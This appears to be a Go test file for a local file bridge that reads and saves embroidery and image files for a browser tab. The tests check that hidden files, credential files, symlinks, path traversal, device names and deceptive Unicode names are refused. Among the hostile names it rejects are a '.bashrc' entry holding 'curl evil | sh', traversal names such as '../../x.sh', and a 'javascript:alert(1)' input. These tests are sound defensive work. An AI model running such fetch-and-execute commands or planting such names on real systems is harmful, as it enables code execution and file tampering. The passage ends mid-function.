package files

import (
	"encoding/base64"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"testing"
	"unicode/utf8"
)

// Magic numbers written from the formats' specifications, not copied from
// the code under test.
var (
	pngBytes  = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	jpegBytes = []byte{0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 'J', 'F', 'I', 'F'}
	gif87     = []byte("GIF87a\x01\x00\x01\x00")
	gif89     = []byte("GIF89a\x01\x00\x01\x00")
	webpBytes = []byte("RIFF\x24\x00\x00\x00WEBPVP8 ")
	// secret marks file content that must never appear in an error.
	secret = "SECRET-CONTENT-7f3a"
)

// tempDir is t.TempDir, skipping the test when the temporary directory
// itself is hidden: every path under it would be refused.
func tempDir(t *testing.T) string {
	t.Helper()
	d := t.TempDir()
	if h := hidden(d); h != "" {
		t.Skipf("temporary directory %s has a hidden component %q", d, h)
	}
	return d
}

func write(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("cannot make symlinks here: %v", err)
	}
}

// tree lists everything under root, relative, with "/" after directories.
func tree(t *testing.T, root string) []string {
	t.Helper()
	var got []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == root {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		rel = filepath.ToSlash(rel)
		if d.IsDir() {
			rel += "/"
		}
		got = append(got, rel)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(got)
	return got
}

func dataURL(mime string, b []byte) string {
	return "data:" + mime + ";base64," + base64.StdEncoding.EncodeToString(b)
}

func TestRead(t *testing.T) {
	home := tempDir(t)
	text := []byte(`{"note":"` + secret + `"}`)
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><!-- ` + secret + ` --></svg>`)
	files := map[string][]byte{
		"a.png":                    pngBytes,
		"png-named.dst":            pngBytes,
		"photo.JPG":                jpegBytes,
		"old.gif":                  gif87,
		"new.gif":                  gif89,
		"x.webp":                   webpBytes,
		"image":                    webpBytes,
		"notes.png":                text,
		"notes.jpeg":               text,
		"wave.webp":                []byte("RIFF\x24\x00\x00\x00WAVEfmt " + secret),
		"design.dst":               []byte("LA:" + secret),
		"DESIGN.PES":               []byte("#PES0001" + secret),
		"d.jef":                    {0, 1, 2},
		"d.exp":                    {0, 1, 2},
		"d.vp3":                    {0, 1, 2},
		"d.inf":                    {0, 1, 2},
		"d.col":                    {0, 1, 2},
		"d.svg":                    svg,
		"d.dxf":                    []byte("0\nSECTION\n" + secret),
		"d.stitchslop":             text,
		"d.json":                   text,
		"empty.json":               {},
		"bad.json":                 []byte("{\"a\":\"\xff\xfe" + secret + "\"}"),
		"png-named.svg":            pngBytes,
		"id_rsa":                   []byte(secret),
		"credentials.txt":          []byte(secret),
		"run.sh":                   []byte("#!/bin/sh\n" + secret),
		".hidden.json":             text,
		".ssh/id_rsa.json":         text,
		".aws/credentials.json":    text,
		".stitchslop/pairing.json": text,
		"Downloads/real.dst":       []byte("LA:"),
	}
	for name, b := range files {
		write(t, filepath.Join(home, filepath.FromSlash(name)), b)
	}
	if err := os.Mkdir(filepath.Join(home, "dir.dst"), 0o755); err != nil {
		t.Fatal(err)
	}
	symlinks := os.Symlink(filepath.Join(home, ".ssh", "id_rsa.json"), filepath.Join(home, "key.json")) == nil &&
		os.Symlink(filepath.Join(home, ".aws"), filepath.Join(home, "aws")) == nil &&
		os.Symlink(filepath.Join(home, "Downloads", "real.dst"), filepath.Join(home, "ok.dst")) == nil

	tests := []struct {
		path, mode string
		link       bool   // needs symlinks
		wantMime   string // "" when an error is wanted
		wantValue  string
		wantErr    string
	}{
		{path: "a.png", wantMime: "image/png", wantValue: dataURL("image/png", pngBytes)},
		{path: "a.png", mode: DataURL, wantMime: "image/png", wantValue: dataURL("image/png", pngBytes)},
		{path: "png-named.dst", wantMime: "image/png", wantValue: dataURL("image/png", pngBytes)},
		{path: "photo.JPG", wantMime: "image/jpeg", wantValue: dataURL("image/jpeg", jpegBytes)},
		{path: "old.gif", wantMime: "image/gif", wantValue: dataURL("image/gif", gif87)},
		{path: "new.gif", wantMime: "image/gif", wantValue: dataURL("image/gif", gif89)},
		{path: "x.webp", wantMime: "image/webp", wantValue: dataURL("image/webp", webpBytes)},
		{path: "image", wantMime: "image/webp", wantValue: dataURL("image/webp", webpBytes)},
		{path: "notes.png", wantErr: "its bytes are not a PNG, JPEG, GIF or WebP image"},
		{path: "notes.jpeg", wantErr: "its bytes are not a PNG, JPEG, GIF or WebP image"},
		{path: "wave.webp", wantErr: "its bytes are not a PNG, JPEG, GIF or WebP image"},
		{path: "design.dst", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", files["design.dst"])},
		{path: "DESIGN.PES", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", files["DESIGN.PES"])},
		{path: "d.jef", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
		{path: "d.exp", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
		{path: "d.vp3", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
		{path: "d.inf", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
		{path: "d.col", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
		{path: "d.svg", wantMime: "image/svg+xml", wantValue: dataURL("image/svg+xml", svg)},
		{path: "d.svg", mode: Text, wantMime: "image/svg+xml", wantValue: string(svg)},
		{path: "d.dxf", mode: Text, wantMime: "image/vnd.dxf", wantValue: string(files["d.dxf"])},
		{path: "d.stitchslop", mode: Text, wantMime: "application/json", wantValue: string(text)},
		{path: "d.json", mode: Text, wantMime: "application/json", wantValue: string(text)},
		{path: "d.json", wantMime: "application/json", wantValue: dataURL("application/json", text)},
		{path: "empty.json", mode: Text, wantMime: "application/json", wantValue: ""},
		{path: "bad.json", mode: Text, wantErr: "not valid UTF-8"},
		{path: "bad.json", wantMime: "application/json", wantValue: dataURL("application/json", files["bad.json"])},
		{path: "design.dst", mode: Text, wantErr: "cannot be sent as text"},
		{path: "a.png", mode: Text, wantErr: "cannot be sent as text"},
		{path: "png-named.svg", mode: Text, wantErr: "cannot be sent as text"},
		{path: "d.json", mode: "base64", wantErr: `mode must be "dataUrl" or "text"`},
		{path: "id_rsa", wantErr: "not a kind of file sent to the tab"},
		{path: "credentials.txt", wantErr: "not a kind of file sent to the tab"},
		{path: "run.sh", wantErr: "not a kind of file sent to the tab"},
		{path: ".hidden.json", wantErr: "hidden files and folders are not sent"},
		{path: ".ssh/id_rsa.json", wantErr: "hidden files and folders are not sent"},
		{path: ".aws/credentials.json", mode: Text, wantErr: "hidden files and folders are not sent"},
		{path: ".stitchslop/pairing.json", mode: Text, wantErr: "hidden files and folders are not sent"},
		{path: "Downloads/../.ssh/id_rsa.json", wantErr: "hidden files and folders are not sent"},
		{path: ".ssh/../d.json", wantMime: "application/json", wantValue: dataURL("application/json", text)},
		{path: "key.json", link: true, wantErr: "hidden files and folders are not sent"},
		{path: "aws/credentials.json", link: true, wantErr: "hidden files and folders are not sent"},
		{path: "ok.dst", link: true, wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte("LA:"))},
		{path: "dir.dst", wantErr: "not a regular file"},
		{path: "missing.dst", wantErr: "no such file"},
	}
	for _, tt := range tests {
		t.Run(tt.path+"/"+tt.mode, func(t *testing.T) {
			if tt.link && !symlinks {
				t.Skip("cannot make symlinks here")
			}
			path := home + string(filepath.Separator) + filepath.FromSlash(tt.path) // not cleaned
			got, err := Read(path, tt.mode)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("Read(%q, %q) = %v, want error containing %q", tt.path, tt.mode, err, tt.wantErr)
				}
				if strings.Contains(err.Error(), secret) {
					t.Errorf("Read(%q, %q) error %q quotes the file's content", tt.path, tt.mode, err)
				}
				if got != (In{}) {
					t.Errorf("Read(%q, %q) = %+v with an error, want In{}", tt.path, tt.mode, got)
				}
				return
			}
			if err != nil {
				t.Fatalf("Read(%q, %q) = %v, want nil", tt.path, tt.mode, err)
			}
			fi, err := os.Stat(path)
			if err != nil {
				t.Fatal(err)
			}
			want := In{Name: filepath.Base(path), Mime: tt.wantMime, Size: fi.Size(), Value: tt.wantValue}
			if got != want {
				t.Errorf("Read(%q, %q) = %+v, want %+v", tt.path, tt.mode, got, want)
			}
		})
	}
}

func TestReadRelative(t *testing.T) {
	dir := tempDir(t)
	write(t, filepath.Join(dir, "a.png"), pngBytes)
	t.Chdir(dir)
	got, err := Read("a.png", "")
	if err != nil || got.Name != "a.png" || got.Mime != "image/png" {
		t.Errorf("Read(%q, \"\") = %+v, %v; want a.png image/png", "a.png", got, err)
	}
	if _, err := Read("", ""); err == nil {
		t.Errorf("Read(%q, \"\") = nil, want an error", "")
	}
}

// TestReadSize: a file of MaxIn bytes is sent; one byte more is refused
// with its size and the cap in MB. The files are sparse.
func TestReadSize(t *testing.T) {
	dir := tempDir(t)
	for _, tt := range []struct {
		size    int64
		wantErr string
	}{
		{MaxIn, ""},
		{MaxIn + 1, "is 14680065 bytes, over the 14 MB limit"},
	} {
		path := filepath.Join(dir, "big.dst")
		f, err := os.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := f.Truncate(tt.size); err != nil {
			t.Fatal(err)
		}
		f.Close()
		got, err := Read(path, DataURL)
		if tt.wantErr == "" {
			if err != nil || got.Size != MaxIn || len(got.Value) != len("data:application/octet-stream;base64,")+base64.StdEncoding.EncodedLen(MaxIn) {
				t.Errorf("Read(%d bytes) = size %d, %v; want size %d, nil", tt.size, got.Size, err, MaxIn)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
			t.Errorf("Read(%d bytes) = %v, want error containing %q", tt.size, err, tt.wantErr)
		}
	}
}

// hostileNames are names a page might return to escape dir, hide a file,
// or plant a script. Save must refuse every one and write nothing.
var hostileNames = []struct {
	name string
	data []byte
}{
	{"../../x.sh", []byte("#!/bin/sh\n")},
	{"../../x.png", pngBytes},
	{"x/../../x.dst", []byte("LA:")},
	{".bashrc", []byte("curl evil | sh\n")},
	{".profile.md", []byte("x")},
	{".png", pngBytes},
	{"a/b.dst", []byte("LA:")},
	{`a\b.dst`, []byte("LA:")},
	{"/etc/x.dst", []byte("LA:")},
	{`C:\x.dst`, []byte("LA:")},
	{"C:x.dst", []byte("LA:")},
	{"x.sh", []byte("#!/bin/sh\n")},
	{"x.bat", []byte("x")},
	{"x.exe", []byte("MZ")},
	{"x.ps1", []byte("x")},
	{"x.command", []byte("x")},
	{"x.js", []byte("x")},
	{"x.py", []byte("x")},
	{"x.png.sh", pngBytes},
	{"x.desktop", []byte("x")},
	{"Makefile", []byte("x")},
	{"x", []byte("x")},
	{"CON.png", pngBytes},
	{"con", []byte("x")},
	{"nul.txt", []byte("x")},
	{"Aux.tar.json", []byte("{}")},
	{"PRN.md", []byte("x")},
	{"com1.dst", []byte("x")},
	{"LPT9.txt", []byte("x")},
	{"COM¹.txt", []byte("x")},
	{"CONOUT$.txt", []byte("x")},
	{"CON .png", pngBytes},
	{"x.png.", pngBytes},
	{"x.png ", pngBytes},
	{"x.png", []byte("not an image")},
	{"x.jpg", pngBytes},
	{"x.webp", []byte("RIFF\x00\x00\x00\x00WAVE")},
	{"x.dst:evil", []byte("x")},
	{"x.dst::$DATA", []byte("x")},
	{"x?.dst", []byte("x")},
	{"x*.dst", []byte("x")},
	{"x|y.dst", []byte("x")},
	{"x\x00.dst", []byte("x")},
	{"x\n.dst", []byte("x")},
	{"x\x1b[31m.dst", []byte("x")},
	{"x\x7f.dst", []byte("x")},
	{"\xff.dst", []byte("x")},
	{"evil\u202Egnp.exe", []byte("MZ")},
	{"report\u202Efdp.dst", []byte("x")},
	{"x\u0085.dst", []byte("x")},
	{"x\u009b31m.dst", []byte("x")},
	{"a\u200bb.dst", []byte("x")},
	{"\ufeffx.dst", []byte("x")},
	{"x\u2028y.md", []byte("x")},
	{"x\ue000.dst", []byte("x")},
	{"x\U0010fffd.dst", []byte("x")},
	{"x\u0378.dst", []byte("x")},
	{"x\ufffe.dst", []byte("x")},
	{" x.dst", []byte("x")},
	{"\u00a0x.dst", []byte("x")},
	{" .png", pngBytes},
	{"...", []byte("x")},
	{"", []byte("x")},
	{".", []byte("x")},
	{"..", []byte("x")},
	{strings.Repeat("a", 252) + ".dst", []byte("x")},
}

// TestBatchBuildsHostileNames: whatever the name a page gives, the file
// is saved in the folder under a name the bridge built, or refused by its
// bytes, and an error never quotes the name.
func TestBatchBuildsHostileNames(t *testing.T) {
	root := tempDir(t)
	dir := filepath.Join(root, "a", "b")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, overwrite := range []bool{false, true} {
		b := Batch{Dir: dir, Overwrite: overwrite}
		for _, tt := range hostileNames {
			got, err := b.Save(tt.name, tt.data)
			switch {
			case err != nil && len(tt.name) > 3 && strings.Contains(err.Error(), tt.name):
				t.Errorf("Batch.Save(%q) error %q quotes the name from the tab", tt.name, err)
			case err == nil && (filepath.Dir(got) != dir || !builtName.MatchString(filepath.Base(got))):
				t.Errorf("Batch.Save(%q) = %q, want a built name in %s", tt.name, got, dir)
			}
		}
	}
	for _, n := range tree(t, root)[2:] {
		if !builtName.MatchString(strings.TrimPrefix(n, "a/b/")) {
			t.Errorf("after hostile saves, %s holds %q", root, n)
		}
	}
}

// TestCheckName: each rule of a name refuses with its own reason, which is
// printable ASCII and never quotes the name; names a person would give
// pass.
// --out is the one name the bridge does not build: checkName holds it to
// the rules of a path a person typed.
func TestCheckName(t *testing.T) {
	tests := []struct {
		name string
		want string // a part of the reason; "" for no error
	}{
		{"design.dst", "it is not an image name"}, // issue 35 F1: a design goes through --save
		{"Photo.PNG", ""},
		{"über.gif", ""},
		{"u\u0308ber.gif", ""}, // NFD: a combining mark is not a format character
		{"刺繍のデザイン.jpg", ""},
		{"なぜ？.webp", ""}, // a fullwidth question mark is not "?"
		{"notes.txt", "it is not an image name"},
		{"سلام.png", ""},
		{"🌹 rose.png", ""},
		{"❤️.png", "it holds U+FE0F, a character that displays as nothing"}, // the one rule: a variation selector
		{"package\ufe0f.json", "it holds U+FE0F, a character that displays as nothing"},
		{"leaf\u17b4.dst", "it holds U+17B4, a character that displays as nothing"},
		{"fill\u3164er.dst", "it holds U+3164, a character that displays as nothing"},
		{"x\u2064.dst", "it holds U+2064, an invisible formatting character"},
		{"x\U000e0080.dst", "it holds U+E0080, a code point not assigned"},
		{"x\U000f0041.dst", "it holds U+F0041, a private-use character"},
		{"my design.png", ""},
		{"a.b.png", ""},
		{"COM10.png", ""},
		{"", "it is empty"},
		{strings.Repeat("a", 252) + ".dst", "it is 256 bytes, over 255"},
		{"\xff.dst", "it is not valid UTF-8"},
		{"x\xed\xa0\x80.dst", "it is not valid UTF-8"}, // a surrogate
		{`a\b.dst`, `it holds one of : * ? " < > | \`},
		{"..", "it is hidden (starts with a dot)"},
		{".", "it is hidden (starts with a dot)"},
		{"...", "it is hidden (starts with a dot)"},
		{".bashrc", "it is hidden (starts with a dot)"},
		{"x\x00.dst", "it holds the control character U+0000"},
		{"x\n.dst", "it holds the control character U+000A"},
		{"x\x7f.dst", "it holds the control character U+007F"},
		{"x\u0080.dst", "it holds the control character U+0080"},
		{"x\u0085.dst", "it holds the control character U+0085"},
		{"x\u009b31m.dst", "it holds the control character U+009B"},
		{"x\u009f.dst", "it holds the control character U+009F"},
		{"evil\u202Egnp.exe", "it holds U+202E, a bidirectional control"},
		{"x\u202a.dst", "it holds U+202A, a bidirectional control"},
		{"x\u2066.dst", "it holds U+2066, a bidirectional control"},
		{"x\u2069.dst", "it holds U+2069, a bidirectional control"},
		{"x\u200e.dst", "it holds U+200E, a bidirectional control"},
		{"x\u200f.dst", "it holds U+200F, a bidirectional control"},
		{"x\u061c.dst", "it holds U+061C, a bidirectional control"},
		{"a\u200bb.dst", "it holds U+200B, an invisible formatting character"},
		{"a\u200db.dst", "it holds U+200D, an invisible formatting character"},
		{"a\u2060b.dst", "it holds U+2060, an invisible formatting character"},
		{"\ufeffx.dst", "it holds U+FEFF, an invisible formatting character"},
		{"a\u00adb.dst", "it holds U+00AD, an invisible formatting character"},
		{"x\U000e0041.dst", "it holds U+E0041, an invisible formatting character"},
		{"x\u2028y.md", "it holds U+2028, a line or paragraph separator"},
		{"x\u2029y.md", "it holds U+2029, a line or paragraph separator"},
		{"x\ue000.dst", "it holds U+E000, a private-use character"},
		{"x\uf022.dst", "it holds U+F022, a private-use character"},
		{"x\U000f0000.dst", "it holds U+F0000, a private-use character"},
		{"x\u0378.dst", "it holds U+0378, a code point not assigned in Unicode"},
		{"x\ufffe.dst", "it holds U+FFFE, a code point not assigned"},
		{"x\ufdd0.dst", "it holds U+FDD0, a code point not assigned"},
		{" x.dst", "it starts with a space"},
		{" .png", "it starts with a space"},
		{"\u3000x.dst", "it starts with a space"},
		{"\u00a0x.dst", "it starts with a space"},
		{"x.dst.", "it ends with a dot or a space"},
		{"x.dst ", "it ends with a dot or a space"},
		{"x.dst:evil", `it holds one of : * ? " < > |`},
		{"x<y.dst", `it holds one of : * ? " < > |`},
		{"CON.png", "it is a Windows device name"},
		{"lpt¹.txt", "it is a Windows device name"},
		{"Aux .md", "it is a Windows device name"},
		{"x.exe", "it is not an image name"},
		{"warp.dst", "it is not an image name"},
		{"warp.png", ""},
		{"package.json.txt", "it is not an image name"},
		{"my-package.json", "it is not an image name"},
		{"design.stitchslop", "it is not an image name"},
		{"design.stitchslop.png", "the mark of the names --save builds"},
		{"readme.md", "it is not an image name"},
		{"x.png\u00a0", "it is not an image name"},
		{"design.inf", "it is not an image name"},
		{"package.json", "it is not an image name"},
		{"site.exp", "it is not an image name"},
		{"rose-export.jpeg", ""},
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			why := checkName(tt.name)
			if tt.want == "" {
				if why != "" {
					t.Errorf("checkName(%q) = %q, want \"\"", tt.name, why)
				}
				return
			}
			if !strings.Contains(why, tt.want) {
				t.Fatalf("checkName(%q) = %q, want it saying %q", tt.name, why, tt.want)
			}
			err := &NameError{Why: why}
			if why := printableASCII(err.Error()); why != "" {
				t.Errorf("checkName(%q) = %q: %s", tt.name, err, why)
			}
			if len(tt.name) > 2 && strings.Contains(err.Error(), tt.name) {
				t.Errorf("checkName(%q) = %q, which quotes the name", tt.name, err)
			}
		})
	}
}

// printableASCII returns why s is not printable ASCII, or "".
func printableASCII(s string) string {
	for i, r := range s {
		if r < 0x20 || r > 0x7e {
			return fmt.Sprintf("byte %d is %U, not printable ASCII", i, r)
		}
	}
	return ""
}

func TestSave(t *testing.T) {
	long := strings.Repeat("a", 251) + ".dst"
	tests := []struct {
		name string
		data []byte
	}{
		{"design.dst", []byte("LA:")},
		{"Photo.PNG", pngBytes},
		{"x.jpeg", jpegBytes},
		{"x.jpg", jpegBytes},
		{"x.gif", gif89},
		{"x.webp", webpBytes},
		{"d.pes", []byte{0}},
		{"d.jef", []byte{0}},
		{"d.exp", []byte{0}},
		{"d.vp3", []byte{0}},
		{"d.inf", []byte{0}},
		{"d.col", []byte{0}},
		{"d.svg", []byte("<svg/>")},
		{"d.dxf", []byte("0\nEOF\n")},
		{"d.stitchslop", []byte("{}")},
		{"reply.json", []byte("{}")},
		{"reply.txt", []byte("hello")},
		{"notes.md", []byte("# hi")},
		{"console.png", pngBytes},
		{"COM10.dst", []byte{0}},
		{"my design v2.dst", []byte{0}},
		{"über.svg", []byte("<svg/>")},
		{"刺繍のデザイン.dst", []byte{0}},
		{"🌹 rose.png", pngBytes},
		{"png-bytes.dst", pngBytes},
		{"empty.txt", nil},
		{long, []byte{0}},
	}
	for _, tt := range tests {
		for _, overwrite := range []bool{false, true} {
			dir := tempDir(t)
			got, _, err := save(dir, tt.name, content{data: tt.data}, overwrite)
			want := filepath.Join(dir, tt.name)
			if err != nil || got != want {
				t.Errorf("save(dir, %q, overwrite=%v) = %q, %v; want %q, nil", tt.name, overwrite, got, err, want)
				continue
			}
			b, err := os.ReadFile(want)
			if err != nil || string(b) != string(tt.data) {
				t.Errorf("save(dir, %q, overwrite=%v) wrote %q, %v; want %q", tt.name, overwrite, b, err, tt.data)
			}
			if ents := tree(t, dir); len(ents) != 1 {
				t.Errorf("save(dir, %q, overwrite=%v) left %q, want one file", tt.name, overwrite, ents)
			}
		}
	}
}

func TestSaveDir(t *testing.T) {
	root := tempDir(t)
	write(t, filepath.Join(root, "file.dst"), []byte("LA:"))
	if err := os.MkdirAll(filepath.Join(root, ".config", "app"), 0o755); err != nil {
		t.Fatal(err)
	}
	links := os.Symlink(filepath.Join(root, ".config"), filepath.Join(root, "cfg")) == nil
	tests := []struct {
		dir     string
		link    bool
		wantErr string
	}{
		{dir: "", wantErr: "empty directory"},
		{dir: "file.dst", wantErr: "not a directory"},
		{dir: "file.dst/sub", wantErr: "not a directory"},
		{dir: "new/.hidden/deeper", wantErr: "hidden files and folders are not written to"},
		{dir: "cfg/new", link: true, wantErr: "hidden files and folders are not written to"},
		{dir: ".config", wantErr: "hidden files and folders are not written to"},
		{dir: ".config/app", wantErr: "hidden files and folders are not written to"},
		{dir: "cfg/app", link: true, wantErr: "hidden files and folders are not written to"},
	}
	for _, tt := range tests {
		if tt.link && !links {
			continue
		}
		dir := ""
		if tt.dir != "" {
			dir = filepath.Join(root, filepath.FromSlash(tt.dir))
		}
		got, _, err := save(dir, "x.dst", content{data: []byte("LA:")}, false)
		if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
			t.Errorf("Save(%q, %q) = %q, %v; want error containing %q", tt.dir, "x.dst", got, err, tt.wantErr)
		}
	}
	want := []string{".config/", ".config/app/", "file.dst"}
	if links {
		want = []string{".config/", ".config/app/", "cfg", "file.dst"}
	}
	if got := tree(t, root); !reflect.DeepEqual(got, want) {
		t.Errorf("after refused saves, %s holds %q, want %q", root, got, want)
	}
}

func TestSaveExclusive(t *testing.T) {
	dir := tempDir(t)
	outside := tempDir(t)
	target := filepath.Join(outside, "target.png")
	write(t, target, pngBytes)
	write(t, filepath.Join(dir, "old.dst"), []byte("old"))

	_, _, err := save(dir, "old.dst", content{data: []byte("new")}, false)
	if err == nil || !strings.Contains(err.Error(), "already exists; it is not replaced") {
		t.Errorf("save(dir, %q, false) over a file = %v, want error containing %q", "old.dst", err, "already exists; it is not replaced")
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "old.dst")); string(b) != "old" {
		t.Errorf("save(dir, %q, false) changed the existing file to %q", "old.dst", b)
	}

	symlink(t, target, filepath.Join(dir, "link.png"))
	_, _, err = save(dir, "link.png", content{data: pngBytes[:8]}, false)
	if err == nil || !strings.Contains(err.Error(), "already exists") {
		t.Errorf("save(dir, %q, false) over a symlink = %v, want error containing %q", "link.png", err, "already exists")
	}
	if b, _ := os.ReadFile(target); string(b) != string(pngBytes) {
		t.Errorf("save(dir, %q, false) wrote through the symlink: target holds %q", "link.png", b)
	}
	if fi, err := os.Lstat(filepath.Join(dir, "link.png")); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
		t.Errorf("save(dir, %q, false) replaced the symlink (%v, %v)", "link.png", fi, err)
	}
}

func TestSaveOverwrite(t *testing.T) {
	dir := tempDir(t)
	outside := tempDir(t)
	target := filepath.Join(outside, "target.png")
	write(t, target, pngBytes)
	write(t, filepath.Join(dir, "old.dst"), []byte("old"))
	if err := os.Mkdir(filepath.Join(dir, "sub.dst"), 0o755); err != nil {
		t.Fatal(err)
	}

	if _, _, err := save(dir, "old.dst", content{data: []byte("new")}, true); err != nil {
		t.Errorf("save(dir, %q, true) = %v, want nil", "old.dst", err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "old.dst")); string(b) != "new" {
		t.Errorf("save(dir, %q, true) left %q, want %q", "old.dst", b, "new")
	}

	_, _, err := save(dir, "sub.dst", content{data: []byte("x")}, true)
	if err == nil || !strings.Contains(err.Error(), "is not a regular file") {
		t.Errorf("save(dir, %q, true) over a directory = %v, want error containing %q", "sub.dst", err, "is not a regular file")
	}

	// THREAT_MODEL A5: only a regular file is ever replaced; a symbolic
	// link at the name is refused even with overwrite, and left as it was.
	want := []string{"old.dst", "sub.dst/"}
	if os.Symlink(target, filepath.Join(dir, "link.png")) == nil {
		img := append(append([]byte{}, pngBytes...), "new"...)
		if _, _, err := save(dir, "link.png", content{data: img}, true); err == nil || !strings.Contains(err.Error(), "is not a regular file") {
			t.Errorf("save(dir, %q, true) over a symlink = %v, want it refused", "link.png", err)
		}
		if b, _ := os.ReadFile(target); string(b) != string(pngBytes) {
			t.Errorf("save(dir, %q, true) wrote through the symlink: target holds %q", "link.png", b)
		}
		if fi, err := os.Lstat(filepath.Join(dir, "link.png")); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
			t.Errorf("save(dir, %q, true) left %v, %v; want the symlink", "link.png", fi, err)
		}
		want = []string{"link.png", "old.dst", "sub.dst/"}
	}
	if got := tree(t, dir); !reflect.DeepEqual(got, want) {
		t.Errorf("after Save with overwrite, dir holds %q, want %q (no temporary file)", got, want)
	}
}

// TestBase64Payload: the payload comes back in place, checked, by
// ParseDataURL's rules; a refusal quotes none of the URL.
func TestBase64Payload(t *testing.T) {
	tests := []struct {
		in       string
		wantData string
		wantErr  string
	}{
		{in: "data:image/png;base64,iVBORw0KGgo=", wantData: "\x89PNG\r\n\x1a\n"},
		{in: "DATA:text/plain;BASE64,aGk=", wantData: "hi"},
		{in: "Data:image/svg+xml;Base64,PHN2Zy8+", wantData: "<svg/>"},
		{in: "data:;base64,", wantData: ""},
		{in: "data:application/json;base64,e30=", wantData: "{}"},
		{in: "", wantErr: "not a data URL"},
		{in: "data", wantErr: "not a data URL"},
		{in: "https://x.test/a.png", wantErr: "not a data URL"},
		{in: "javascript:alert(1)", wantErr: "not a data URL"},
		{in: "data:image/png", wantErr: "has no data"},
		{in: "data:image/png,SECRETPAYLOAD", wantErr: "is not ;base64,"},
		// One parser's rules (ParseDataURL): parameters before ;base64 are dropped.
		{in: "data:text/plain;charset=utf-8;base64,aGk=", wantData: "hi"},
		{in: "data:image/png;base64", wantErr: "is not ;base64,"},
		{in: "data:image /png;base64,aGk=", wantErr: "is not ;base64,"},
		{in: "data:image/png;base64,aGk", wantErr: "bad base64"},
		{in: "data:image/png;base64,aGk=SECRETPAYLOAD", wantErr: "bad base64"},
		{in: "data:image/png;base64,!!!!", wantErr: "bad base64"},
		{in: "data:image/png;base64,aG-_", wantErr: "bad base64"},
	}
	for _, tt := range tests {
		in := []byte(tt.in)
		payload, err := Base64Payload(in)
		if tt.wantErr != "" {
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("Base64Payload(%q) = %v, want error containing %q", tt.in, err, tt.wantErr)
			}
			if err != nil && (strings.Contains(err.Error(), "SECRET") || strings.Contains(err.Error(), "image/png")) {
				t.Errorf("Base64Payload(%q) error %q echoes the URL", tt.in, err)
			}
			if payload != nil {
				t.Errorf("Base64Payload(%q) = %q with an error, want nothing", tt.in, payload)
			}
			continue
		}
		data, derr := base64.StdEncoding.DecodeString(string(payload))
		if err != nil || derr != nil || string(data) != tt.wantData {
			t.Errorf("Base64Payload(%q) = %q (%q), %v; want %q, nil", tt.in, payload, data, err, tt.wantData)
		}
		if len(payload) > 0 && &payload[0] != &in[len(in)-len(payload)] {
			t.Errorf("Base64Payload(%q) copied the payload, want a piece of the URL", tt.in)
		}
	}
}

func TestSetArg(t *testing.T) {
	type m = map[string]any
	tests := []struct {
		args    func() m
		key     string
		want    m
		wantErr string
	}{
		{func() m { return m{} }, "a", m{"a": 1}, ""},
		{func() m { return m{"a": 0} }, "a", m{"a": 1}, ""},
		{func() m { return m{"x": 2} }, "sidecar.data", m{"x": 2, "sidecar": m{"data": 1}}, ""},
		{func() m { return m{"sidecar": m{"keep": 2}} }, "sidecar.data", m{"sidecar": m{"keep": 2, "data": 1}}, ""},
		{func() m { return m{} }, "a.b.c", m{"a": m{"b": m{"c": 1}}}, ""},
		{func() m { return m{"a": m{}} }, "a.b.c", m{"a": m{"b": m{"c": 1}}}, ""},
		{func() m { return m{} }, "a.b.c.d", nil, "want 1 to 3 non-empty names"},
		{func() m { return m{} }, "", nil, "want 1 to 3 non-empty names"},
		{func() m { return m{} }, ".a", nil, "want 1 to 3 non-empty names"},
		{func() m { return m{} }, "a.", nil, "want 1 to 3 non-empty names"},
		{func() m { return m{} }, "a..b", nil, "want 1 to 3 non-empty names"},
		{func() m { return m{"a": "s"} }, "a.b", nil, `"a" is a string, not an object`},
		{func() m { return m{"a": nil} }, "a.b", nil, `"a" is a <nil>, not an object`},
		{func() m { return m{"a": []any{}} }, "a.b.c", nil, `"a" is a []interface {}, not an object`},
		{func() m { return m{"a": map[string]string{}} }, "a.b", nil, `"a" is a map[string]string, not an object`},
		{func() m { return m{"a": m{"b": 5}} }, "a.b.c", nil, `"a.b" is a int, not an object`},
	}
	for _, tt := range tests {
		args := tt.args()
		err := SetArg(args, tt.key, 1)
		if tt.wantErr != "" {
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("SetArg(%v, %q) = %v, want error containing %q", tt.args(), tt.key, err, tt.wantErr)
			}
